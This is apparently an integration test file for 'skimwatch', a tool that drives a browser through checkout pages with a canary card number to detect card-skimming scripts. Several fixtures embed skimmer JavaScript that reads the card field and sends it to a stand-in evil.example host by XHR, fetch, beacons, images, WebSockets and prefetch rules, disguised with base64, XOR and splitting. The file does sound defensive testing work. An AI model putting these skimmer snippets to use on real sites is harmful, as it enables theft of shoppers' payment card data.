#include <dirent.h>
#include <netinet/in.h>
#include <openssl/evp.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <filesystem>
#include <fstream>
#include <set>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "absl/strings/escaping.h"
#include "absl/strings/match.h"
#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "absl/strings/str_replace.h"
#include "absl/strings/str_split.h"
#include "agent/card/brand_table.h"
#include "agent/script/source/page/browser_process.h"
#include "agent/script/source/page/page_look.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/integration/support/browser_site.h"
#include "tests/integration/support/cards.h"
#include "tests/integration/support/deployment.h"
#include "tests/support/daemon.h"
#include "tests/support/temp_folder.h"

namespace skimwatch::integration {
namespace {

using script::PageOutcome;
using script::PageRun;
using ::testing::AllOf;
using ::testing::AnyOf;
using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::UnorderedElementsAre;
using testing::WaitUntil;

// Agrees to every WebSocket and swallows what comes.
class WebSocketServer {
 public:
  explicit WebSocketServer(int port) : fd_(socket(AF_INET, SOCK_STREAM, 0)) {
    const int on = 1;
    setsockopt(fd_, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(static_cast<uint16_t>(port));
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    EXPECT_EQ(bind(fd_, reinterpret_cast<const sockaddr*>(&address), sizeof(address)), 0);
    EXPECT_EQ(listen(fd_, 8), 0);
    thread_ = std::thread([this] { Run(); });
  }
  ~WebSocketServer() {
    shutdown(fd_, SHUT_RDWR);
    close(fd_);
    thread_.join();
  }

 private:
  void Run() {
    while (true) {
      const int client = accept(fd_, nullptr, nullptr);
      if (client < 0) return;
      std::string head;
      char buffer[4096];
      ssize_t got = 0;
      while (head.find("\r\n\r\n") == std::string::npos &&
             (got = read(client, buffer, sizeof(buffer))) > 0) {
        head.append(buffer, static_cast<size_t>(got));
      }
      // RFC 6455, 4.2.2.
      const size_t at = head.find("Sec-WebSocket-Key: ");
      if (at != std::string::npos) {
        const std::string key = head.substr(at + 19, 24) + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11";
        unsigned char digest[EVP_MAX_MD_SIZE];
        unsigned int size = 0;
        EVP_Digest(key.data(), key.size(), digest, &size, EVP_sha1(), nullptr);
        const std::string answer = absl::StrCat(
            "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            "Sec-WebSocket-Accept: ",
            absl::Base64Escape(absl::string_view(reinterpret_cast<const char*>(digest), size)),
            "\r\n\r\n");
        (void)!write(client, answer.data(), answer.size());
        while (read(client, buffer, sizeof(buffer)) > 0) {
        }
      }
      close(client);
    }
  }

  const int fd_;
  std::thread thread_;
};

constexpr char kForm[] =
    "<form id=\"pay\"><input id=\"card\" name=\"cardnumber\" autocomplete=\"cc-number\">"
    "<input id=\"expiry\"><button type=\"button\" id=\"go\">Pay</button></form>";

class PageLook : public ::testing::Test {
 protected:
  void SetUp() override {
    if (!BrowserSite::HasChromium()) GTEST_SKIP() << "needs chromium";
    signal(SIGPIPE, SIG_IGN);
    before_ = LeftBehind();
    ASSERT_NO_FATAL_FAILURE(site_.Start("/nowhere", "add_header X-Frame-Options SAMEORIGIN;\n"));
    look_.check.set_name("checkout");
    look_.check.set_url(site_.Origin("shop.example") + "/checkout.html");
    look_.check.set_settle_milliseconds(300);
    look_.browser.set_no_sandbox(geteuid() == 0);
    look_.browser.set_seconds_max(60);
    look_.browser.set_memory_mib(1024);
    look_.browser.set_scripts_max(200);
    look_.browser.set_script_kib_max(4096);
    look_.browser.set_requests_max(500);
    look_.browser.set_body_kib_max(256);
    for (const std::string& argument : site_.BrowserArguments()) {
      look_.browser.add_arguments(argument);
    }
    look_.brands = &card::BrandTable::Default();
    look_.is_site_host = [](std::string_view host) { return host == "shop.example"; };
    look_.is_approved = look_.is_site_host;
    look_.on_canary = [this](std::string_view, std::string_view number) { number_ = number; };
  }

  void AddStep(const std::string& fill, const std::string& text) {
    config::v1::PageStep& step = *look_.check.add_steps();
    step.set_fill(fill);
    step.set_text(text);
    step.set_timeout_seconds(15);
  }
  void WriteCheckout(const std::string& head, const std::string& body = kForm) {
    site_.WriteShop("checkout.html", absl::StrCat("<!doctype html><html><head>", head,
                                                  "</head><body>", body, "</body></html>"));
  }
  std::string Evil() const { return site_.Origin("evil.example"); }
  // Processes and folders that a browser left behind.
  static std::vector<std::string> LeftBehind() {
    std::vector<std::string> left;
    for (const auto& entry : std::filesystem::directory_iterator("/proc")) {
      int pid = 0;
      if (!absl::SimpleAtoi(entry.path().filename().string(), &pid)) continue;
      const std::string command = testing::ReadFile(entry.path() / "cmdline");
      const std::string mine = absl::StrCat("--user-data-dir=", ::testing::TempDir());
      if (absl::StrContains(command, mine + "skimwatch-page-")) left.push_back(command);
    }
    for (const auto& entry : std::filesystem::directory_iterator(::testing::TempDir())) {
      if (absl::StartsWith(entry.path().filename().string(), "skimwatch-page-")) {
        left.push_back(entry.path());
      }
    }
    return left;
  }

  const testing::TempFolder folder_;
  BrowserSite site_{folder_.path()};
  script::PageLookOptions look_;
  std::string number_;
  // What a test that was killed left.
  std::vector<std::string> before_;
};

TEST_F(PageLook, RecordsEveryScriptThatRuns) {
  WriteCheckout(absl::StrCat("<meta http-equiv=\"Content-Security-Policy\" content=\"object-src "
                             "&#39;none&#39;\"><script>var plain=1</script>"
                             "<script src=\"/shop.js\"></script><script src=\"",
                             site_.Origin("vendor.example"), "/chat.js\"></script>"),
                absl::StrCat(kForm, "<iframe src=\"/frame.html\"></iframe><iframe src=\"",
                             site_.Origin("vendor.example"), "/frame.html\"></iframe>"));
  site_.WriteShop("frame.html", "<script>var inOwnFrame=1</script>");
  site_.WriteVendor("frame.html", "<script>var inVendorFrame=1</script>");
  site_.WriteShop(
      "shop.js",
      "var s=document.createElement('script');s.text='var inserted=1';document.head.append(s);\n"
      "eval('var evaluated=1');new Function('return 17')();setTimeout('var timed=1',1);\n"
      "var b=document.createElement('script');"
      "b.src=URL.createObjectURL(new Blob(['var fromBlob=1']));document.head.append(b);\n"
      "var d=document.createElement('script');d.src='data:text/javascript,var%20fromData=1';"
      "document.head.append(d);\n"
      "new Worker(URL.createObjectURL(new Blob(['var inBlobWorker=1'])));\n"
      "new Worker('/worker.js');navigator.serviceWorker.register('/sw.js');\n"
      "document.querySelector&&addEventListener('load',()=>document.querySelector('#card')"
      ".addEventListener('keydown',()=>1));\n");
  site_.WriteShop("worker.js", "importScripts('/imported.js')");
  site_.WriteShop("imported.js", "var imported=1");
  site_.WriteShop("sw.js", "self.addEventListener('install',()=>1)");
  site_.WriteVendor("chat.js",
                    "var x=document.createElement('script');x.src=document.currentScript.src"
                    ".replace('chat','second');document.head.append(x);");
  site_.WriteVendor("second.js", "var second=1");

  const PageRun run = script::LookAtPage(look_);
  ASSERT_EQ(run.outcome, PageOutcome::kOk) << run.reason;
  std::set<std::string> seen;
  for (const script::SeenScript& one : run.scripts) {
    const bool has_name = !one.address.empty();
    const std::string name =
        has_name ? one.address.substr(one.address.rfind('/') + 1) : one.text.value_or("");
    seen.insert(absl::StrCat(one.seen_as, " ", name));
    EXPECT_EQ(one.text_sha256.size(), 32) << name;
    // The bytes of everything that nginx served.
    if (one.seen_as == "external") {
      EXPECT_EQ(one.raw_sha256, one.text_sha256) << name;
    }
    if (name == "second.js") {
      EXPECT_THAT(one.initiator, HasSubstr("/chat.js"));
    }
    if (absl::StrContains(name, "inserted")) {
      EXPECT_THAT(one.initiator, HasSubstr("/shop.js"));
    }
    EXPECT_EQ(one.third_party_frame, absl::StrContains(name, "inVendorFrame")) << name;
    if (name == "shop.js") {
      EXPECT_THAT(one.listeners, Contains(HasSubstr("keydown on input#card")));
    }
  }
  for (const char* const expected :
       {"inline var plain=1", "external shop.js", "external chat.js", "external second.js",
        "eval var inserted=1", "eval var evaluated=1", "eval var timed=1", "blob var fromBlob=1",
        "data var fromData=1", "worker var inBlobWorker=1", "worker worker.js",
        "external imported.js", "service_worker sw.js", "inline var inOwnFrame=1",
        "inline var inVendorFrame=1"}) {
    EXPECT_THAT(seen, Contains(expected));
  }
  EXPECT_THAT(seen, Contains(HasSubstr("return 17")));
  ASSERT_EQ(run.frames.size(), 1);
  EXPECT_THAT(run.frames[0].address, HasSubstr("vendor.example"));
  ASSERT_EQ(run.pages.size(), 1);
  EXPECT_THAT(run.pages[0].headers,
              Contains(std::pair<std::string, std::string>("x-frame-options", "SAMEORIGIN")));
  EXPECT_THAT(run.pages[0].meta_policies, Contains(std::pair<std::string, std::string>(
                                              "content-security-policy", "object-src 'none'")));
  EXPECT_THAT(run.user_agent, Not(HasSubstr("Headless")));
  EXPECT_EQ(LeftBehind(), before_);
}

TEST_F(PageLook, FindsTheCanaryOnEveryWayOutAndKeepsItIn) {
  const WebSocketServer sockets(site_.socket_port());
  WriteCheckout("");
  const std::string evil = Evil();
  WriteCheckout(
      absl::StrCat("<script src=\"", site_.Origin("vendor.example"), "/chat.js\"></script>"));
  site_.WriteVendor(
      "chat.js",
      absl::StrReplaceAll(
          "addEventListener('load',function(){var c=document.querySelector('#card'),e='@';\n"
          "c.addEventListener('change',function(){var v=c.value;\n"
          "var x=new XMLHttpRequest();x.open('POST',e+'/xhr');x.send(new Blob(['n='+v]));\n"
          "fetch(e+'/fetch',{method:'POST',body:btoa('card='+v)}).catch(()=>1);\n"
          "navigator.sendBeacon(e+'/beacon',v.split('').reverse().join(''));\n"
          "new Image().src=e+'/image?d='+btoa(btoa(v));\n"
          "fetch(e+'/split',{method:'POST',body:JSON.stringify({a:v.slice(0,8),b:v.slice(8)})})"
          ".catch(()=>1);\n"
          "fetch(e+'/xor',{method:'POST',body:v.split('').map(d=>String.fromCharCode("
          "d.charCodeAt(0)^90)).join('')}).catch(()=>1);\n"
          "var w=new WebSocket(e.replace('https','wss')+'/socket');w.onopen=()=>w.send(btoa(v));\n"
          "addEventListener('pagehide',()=>navigator.sendBeacon(e+'/leaving',new Blob([v])));\n"
          "fetch('/pay',{method:'POST',body:v}).catch(()=>1);\n"
          "fetch(e+'/method',{method:v}).catch(()=>1);\n"
          "fetch(e+'/long',{method:'POST',body:'x'.repeat(300*1024)+v}).catch(()=>1);\n"
          "var s=document.createElement('script');s.type='speculationrules';s.textContent="
          "JSON.stringify({prefetch:[{source:'list',urls:[e+'/ahead?d='+btoa(v)]}],"
          "prerender:[{source:'list',urls:['/ahead?d='+btoa(v)]}]});document.head.append(s);\n"
          "})});\n",
          {{"@", evil}}));
  AddStep("#card", "{card}");
  AddStep("#expiry", "{expiry}");

  const PageRun run = script::LookAtPage(look_);
  ASSERT_EQ(run.outcome, PageOutcome::kOk) << run.reason;
  EXPECT_TRUE(run.canary_typed);
  EXPECT_EQ(number_.size(), 16);
  std::set<std::string> ways;
  for (const script::SeenDeparture& one : run.departures) {
    ASSERT_TRUE(one.has_canary) << one.address;
    EXPECT_TRUE(one.address.find(number_) == std::string::npos);
    ways.insert(one.address.substr(one.address.rfind('/') + 1));
    EXPECT_EQ(one.approved, absl::StrContains(one.address, "shop.example")) << one.address;
    EXPECT_EQ(one.stopped, !absl::StartsWith(one.address, "wss:")) << one.address;
    if (!absl::StrContains(one.address, "leaving")) {
      EXPECT_THAT(one.initiator, HasSubstr("vendor.example")) << one.address;
    }
  }
  EXPECT_THAT(ways, UnorderedElementsAre("xhr", "fetch", "beacon", "image", "split", "xor",
                                         "socket", "leaving", "pay", "method"));
  // Nothing of it went anywhere, the shop's own server included.
  for (const absl::string_view line : absl::StrSplit(site_.Requests(), '\n')) {
    const std::string request(line);
    if (absl::StartsWith(request, "evil.example")) {
      EXPECT_THAT(request, HasSubstr("/socket"));
    }
    EXPECT_THAT(request, Not(AnyOf(HasSubstr("/pay"), HasSubstr("/ahead"))));
  }
}

// As of a page that waits to be told of something.
TEST_F(PageLook, DoesNotWaitForRequestsThatStayOpen) {
  // It takes connections in and answers none.
  const int silent = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<uint16_t>(site_.socket_port()));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(bind(silent, reinterpret_cast<const sockaddr*>(&address), sizeof(address)), 0);
  ASSERT_EQ(listen(silent, 8), 0);
  WriteCheckout(absl::StrCat("<script>addEventListener('load',()=>{fetch('", Evil(),
                             "/socket').catch(()=>1);new EventSource('", Evil(),
                             "/socket')})</script>"));
  AddStep("#card", "{card}");
  AddStep("#expiry", "{expiry}");
  // Below what three waits would take.
  look_.browser.set_seconds_max(40);
  const PageRun run = script::LookAtPage(look_);
  close(silent);
  EXPECT_EQ(run.outcome, PageOutcome::kOk) << run.reason;
  EXPECT_TRUE(run.canary_typed);
  EXPECT_EQ(run.hosts.at("evil.example"), 2);
}

TEST_F(PageLook, NotesARequestThatCannotBeDecodedAfterTheCanaryWasTyped) {
  WriteCheckout(absl::StrCat("<script>addEventListener('load',()=>{fetch('", Evil(),
                             "/before',{method:'POST',body:'a'}).catch(()=>1);"
                             "document.querySelector('#card').addEventListener('change',()=>"
                             "crypto.subtle.digest('SHA-256',new TextEncoder().encode("
                             "event.target.value)).then(h=>fetch('",
                             Evil(), "/after',{method:'POST',body:h}).catch(()=>1)))})</script>"));
  AddStep("#card", "{card}");
  const PageRun run = script::LookAtPage(look_);
  ASSERT_EQ(run.outcome, PageOutcome::kOk) << run.reason;
  ASSERT_EQ(run.departures.size(), 1);
  EXPECT_THAT(run.departures[0].address, HasSubstr("/after"));
  EXPECT_FALSE(run.departures[0].has_canary);
  EXPECT_FALSE(run.departures[0].approved);
}

TEST_F(PageLook, EndsAPageThatHangs) {
  WriteCheckout("<script>for(;;);</script>");
  look_.browser.set_seconds_max(8);
  const PageRun run = script::LookAtPage(look_);
  EXPECT_EQ(run.outcome, PageOutcome::kTimeout);
  EXPECT_THAT(run.reason, Not(IsEmpty()));
  EXPECT_LT(run.duration, absl::Seconds(20));
  EXPECT_EQ(LeftBehind(), before_);
}

TEST_F(PageLook, EndsAPageThatFillsMemory) {
  WriteCheckout(
      "<script>var a=[];setInterval(()=>a.push(new Uint8Array(3e7).fill(1)),10)</script>");
  look_.browser.set_memory_mib(600);
  AddStep("#never", "x");
  const PageRun run = script::LookAtPage(look_);
  EXPECT_EQ(run.outcome, PageOutcome::kMemory) << run.reason;
  EXPECT_GT(run.memory_bytes_max, uint64_t{600} << 20);
  EXPECT_EQ(LeftBehind(), before_);
}

TEST_F(PageLook, SaysThatTheBrowserCrashed) {
  WriteCheckout("<script>fetch('/ran')</script>");
  AddStep("#never", "x");
  std::atomic<bool> done = false;
  // Kills the page's process once its script has run.
  std::thread killer([&] {
    WaitUntil([&] { return absl::StrContains(site_.Requests(), "/ran") || done; });
    for (const auto& entry : std::filesystem::directory_iterator("/proc")) {
      int pid = 0;
      if (!absl::SimpleAtoi(entry.path().filename().string(), &pid)) continue;
      const std::string command = testing::ReadFile(entry.path() / "cmdline");
      if (absl::StrContains(command, "--type=renderer") &&
          absl::StrContains(command, "skimwatch-page-")) {
        kill(pid, SIGKILL);
      }
    }
  });
  const PageRun run = script::LookAtPage(look_);
  done = true;
  killer.join();
  EXPECT_EQ(run.outcome, PageOutcome::kCrashed) << run.reason;
  EXPECT_EQ(LeftBehind(), before_);
}

TEST_F(PageLook, NamesTheStepThatFailed) {
  WriteCheckout("");
  AddStep("#card", "1");
  AddStep("#no-such-field", "2");
  look_.check.mutable_steps(1)->set_timeout_seconds(1);
  const PageRun run = script::LookAtPage(look_);
  EXPECT_EQ(run.outcome, PageOutcome::kStepFailed);
  EXPECT_THAT(run.reason, AllOf(HasSubstr("step 2"), HasSubstr("#no-such-field")));
}

TEST_F(PageLook, SaysThatThePageIsNotThere) {
  look_.check.set_url(site_.Origin("shop.example") + "/no-such-page");
  const PageRun run = script::LookAtPage(look_);
  EXPECT_EQ(run.outcome, PageOutcome::kNotLoaded);
  EXPECT_EQ(run.reason, "the server answered 404");
}

TEST_F(PageLook, SaysThatTheBrowserDoesNotStart) {
  WriteCheckout("");
  look_.browser.set_path("/no/such/browser");
  const PageRun run = script::LookAtPage(look_);
  EXPECT_EQ(run.outcome, PageOutcome::kNotStarted);
  EXPECT_THAT(run.reason, HasSubstr("pages.browser.path"));
  if (geteuid() != 0) return;
  look_.browser.clear_path();
  look_.browser.set_no_sandbox(false);
  EXPECT_THAT(script::LookAtPage(look_).reason, HasSubstr("pages.browser.user"));
}

// Real parts as an operator installs them.
class PageChecks : public ::testing::Test {
 protected:
  void SetUp() override {
    if (!BrowserSite::HasChromium()) GTEST_SKIP() << "needs chromium";
    ASSERT_NO_FATAL_FAILURE(deployment_.StartCollector());
    // It has its port from then on.
    ASSERT_NO_FATAL_FAILURE(StartSite("default-src *"));
    ASSERT_NO_FATAL_FAILURE(StartSite("script-src 'self' 'unsafe-inline' " + Vendor()));
    site_.WriteShop("checkout.html",
                    absl::StrCat("<!doctype html><html><head><script src=\"", Vendor(),
                                 "/chat.js\"></script></head><body>", kForm, "</body></html>"));
    site_.WriteVendor("chat.js", "document.title='chat';\n");
  }

  void StartSite(const std::string& policy) {
    site_.Start("/nowhere", absl::StrCat("add_header Content-Security-Policy \"", policy, "\";\n"));
  }
  std::string Vendor() const { return site_.Origin("vendor.example"); }
  std::string Page() const { return site_.Origin("shop.example") + "/checkout.html"; }

  // Another configuration than before has the agent look at once.
  void StartAgent(int settle_milliseconds) {
    std::vector<std::string> arguments;
    for (const std::string& argument : site_.BrowserArguments()) {
      arguments.push_back(absl::StrCat("\"", argument, "\""));
    }
    std::ofstream(deployment_.site_folder() + "/number") << kNumber << "\n";
    deployment_.agent_yaml = absl::StrCat(
        "sources: { log_files: [{ paths: [\"", deployment_.site_folder(), "/*.log\"] }] }\n",
        "scan: { fold_window_seconds: 1 }\n",
        "pages:\n  browser: { no_sandbox: ", geteuid() == 0 ? "true" : "false", ", arguments: [",
        absl::StrJoin(arguments, ", "), "] }\n", "  checks: [{ name: checkout, url: \"", Page(),
        "\", settle_milliseconds: ", settle_milliseconds, ", canary: { number_file: \"",
        deployment_.site_folder(), "/number\" }",
        ", steps: [{ fill: \"#card\", text: \"{card}\" }] }]\n");
    ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
  }
  bool WaitForLook() {
    return WaitUntil(
        [&] { return SumOf(deployment_.AgentGet("/metrics"), "skimwatch_page_checks_total") >= 1; },
        absl::Seconds(90));
  }
  std::vector<v1::Finding> Findings(const std::function<bool(const v1::Finding&)>& wanted) {
    std::vector<v1::Finding> found;
    for (const v1::StoredFinding& stored : deployment_.Findings()) {
      if (wanted(stored.finding())) found.push_back(stored.finding());
    }
    return found;
  }
  bool WaitFor(const std::function<bool(const v1::Finding&)>& wanted) {
    return WaitUntil([&] { return !Findings(wanted).empty(); }, absl::Seconds(60));
  }

  static constexpr char kNumber[] = "4242424242424242";
  Deployment deployment_;
  BrowserSite site_{deployment_.site_folder()};
};

TEST_F(PageChecks, FollowAVendorsScriptThatBeginsToSteal) {
  ASSERT_NO_FATAL_FAILURE(StartAgent(300));
  ASSERT_TRUE(WaitForLook());
  const std::string script = absl::StrCat(Page(), "#src=", Vendor(), "/chat.js");
  const auto is = [](const std::string& name, v1::ScriptChange::Change change) {
    return [name, change](const v1::Finding& finding) {
      return finding.script_change().script() == name && finding.script_change().change() == change;
    };
  };
  ASSERT_TRUE(WaitFor(is(script, v1::ScriptChange::CHANGE_PROPOSED)))
      << deployment_.agent().Log() << deployment_.AgentGet("/metrics");
  ASSERT_TRUE(WaitFor(is(Page() + "#headers", v1::ScriptChange::CHANGE_PROPOSED)));
  EXPECT_THAT(Findings([](const v1::Finding& finding) { return finding.has_canary(); }), IsEmpty());
  EXPECT_GT(
      deployment_.AgentMetric("skimwatch_page_last_success_timestamp_seconds{page=\"checkout\"}"),
      0);
  EXPECT_EQ(
      deployment_.AgentMetric("skimwatch_page_checks_total{page=\"checkout\",outcome=\"ok\"}"), 1);
  const auto looks = [&](int64_t count) {
    return WaitUntil([&] {
      const std::vector<v1::Agent> agents = deployment_.Agents();
      return agents.size() == 1 && agents[0].pages_size() == 1 &&
             agents[0].pages(0).outcome() == v1::PageLook::OUTCOME_OK &&
             agents[0].pages(0).has_last_whole_look() &&
             agents[0].pages(0).looks(0) == static_cast<uint64_t>(count);
    });
  };
  EXPECT_TRUE(looks(1)) << deployment_.Agents().at(0).DebugString();
  deployment_.StopAgent(SIGTERM);

  ASSERT_NO_FATAL_FAILURE(StartSite("script-src 'self' 'unsafe-inline' " + Vendor() + " " +
                                    site_.Origin("evil.example")));
  site_.WriteVendor(
      "chat.js",
      absl::StrCat("document.title='chat';\ndocument.querySelector||0;addEventListener('load',()=>"
                   "document.querySelector('#card').addEventListener('change',e=>fetch('",
                   site_.Origin("evil.example"),
                   "/c',{method:'POST',body:btoa(e.target.value)})));\n"));
  ASSERT_NO_FATAL_FAILURE(StartAgent(301));
  ASSERT_TRUE(WaitForLook());

  ASSERT_TRUE(WaitFor(is(script, v1::ScriptChange::CHANGE_CHANGED)));
  const v1::Finding changed = Findings(is(script, v1::ScriptChange::CHANGE_CHANGED)).front();
  EXPECT_EQ(changed.severity(), v1::SEVERITY_CRITICAL);
  EXPECT_EQ(changed.provenance().source(), v1::SOURCE_KIND_PAGE);
  EXPECT_THAT(changed.script_change().diff(), HasSubstr("evil.example"));

  ASSERT_TRUE(WaitFor(is(Page() + "#headers", v1::ScriptChange::CHANGE_CHANGED)));
  const v1::Finding headers =
      Findings(is(Page() + "#headers", v1::ScriptChange::CHANGE_CHANGED)).front();
  EXPECT_EQ(headers.severity(), v1::SEVERITY_HIGH);
  EXPECT_THAT(headers.script_change().reasons(),
              Contains(AllOf(HasSubstr("script-src"), HasSubstr("gained https://evil.example"))));

  const auto departed = [](const v1::Finding& finding) {
    return finding.rule() == "canary.departed";
  };
  ASSERT_TRUE(WaitFor(departed));
  const v1::Finding canary = Findings(departed).front();
  EXPECT_EQ(canary.severity(), v1::SEVERITY_CRITICAL);
  EXPECT_EQ(canary.canary().page(), Page());
  EXPECT_EQ(canary.canary().script(), script);
  EXPECT_THAT(canary.canary().run_id(), Not(IsEmpty()));
  EXPECT_THAT(canary.destination(), HasSubstr("evil.example"));
  EXPECT_THAT(canary.canary().encodings(), Contains("base64"));
  EXPECT_THAT(site_.Requests(), Not(HasSubstr("evil.example POST")));

  // The same number in a log tells which page and look it came from.
  std::ofstream(deployment_.site_folder() + "/app.log", std::ios::app)
      << "paid with card " << kNumber << "\n";
  const auto seen = [](const v1::Finding& finding) { return finding.rule() == "canary.seen"; };
  ASSERT_TRUE(WaitFor(seen));
  const v1::Finding in_log = Findings(seen).front();
  EXPECT_EQ(in_log.severity(), v1::SEVERITY_CRITICAL);
  EXPECT_EQ(in_log.canary().page(), Page());
  EXPECT_EQ(in_log.canary().run_id(), canary.canary().run_id());
  EXPECT_THAT(in_log.destination(), HasSubstr("app.log"));
}

}  // namespace
}  // namespace skimwatch::integration
